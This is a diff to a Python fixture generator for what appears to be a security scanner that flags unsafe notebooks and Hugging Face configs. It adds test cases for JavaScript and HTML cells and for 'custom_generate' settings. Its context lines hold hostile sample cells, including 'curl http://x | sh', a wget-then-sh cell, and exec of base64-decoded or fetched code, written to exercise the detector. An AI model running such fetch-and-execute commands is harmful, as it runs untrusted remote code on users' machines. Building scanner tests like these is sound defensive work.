@@ -338,6 +338,8 @@ def make_notebook():
     for what, source in {"fetch_and_run": "!curl http://x | sh", "bash_fetch": "%%bash\nwget http://x/y\nsh y", "pip_address": "%pip install git+https://x/y", "decoded": "import base64\nexec(base64.b64decode('eA=='))",
                          "request_and_run": "import requests, os\nrequests.get('http://x')\nos.system('y')", "fetched": "import requests\nexec(requests.get('http://x').text)"}.items():
         add("unsafe", "MDL-REP-003", what, notebook(source))
+    add("suspicious", "MDL-REP-003", "javascript_cell", notebook("%%javascript\nrequire.config({paths: {d3: 'https://d3js.org/d3.v7'}})"))
+    add("suspicious", "MDL-REP-003", "html_cell", notebook("%%html\n<script>1</script>"))
     add("suspicious", "MDL-REP-003", "javascript", notebook("1", outputs=[{"application/javascript": "alert(1)"}]))
     add("suspicious", "MDL-REP-003", "html_script", notebook("1", outputs=[{"text/html": ["<b>x</b>", "<script>1</script>"]}]))
     add("unsafe", "MDL-PKL-001", "attachment", notebook("1", attachments=base64.b64encode(EVIL).decode()))
@@ -362,6 +364,8 @@ def make_huggingface():
     add("clean", "none", "untrusted", {**bert, "trust_remote_code": False})
     add("clean", "none", "template", "{% for m in messages %}{{ m.content }}{% endfor %}", "jinja")
     add("suspicious", "MDL-REP-001", "auto_map", {**bert, "auto_map": {"AutoModel": "modeling_x.Model"}})
+    add("suspicious", "MDL-REP-001", "custom_generate", {**bert, "custom_generate": "sampling"})
+    add("unsafe", "MDL-REP-001", "custom_generate_elsewhere", {"custom_generate": "someone/repository"})
     add("suspicious", "MDL-REP-001", "auto_map_list", {"tokenizer_class": "T", "auto_map": {"AutoTokenizer": ["tok.T", None]}})
     add("suspicious", "MDL-REP-001", "auto_map_inner", {**bert, "text_config": {"auto_map": {"AutoConfig": "c.C"}}})
     add("suspicious", "MDL-REP-001", "trusting", {**bert, "trust_remote_code": True})
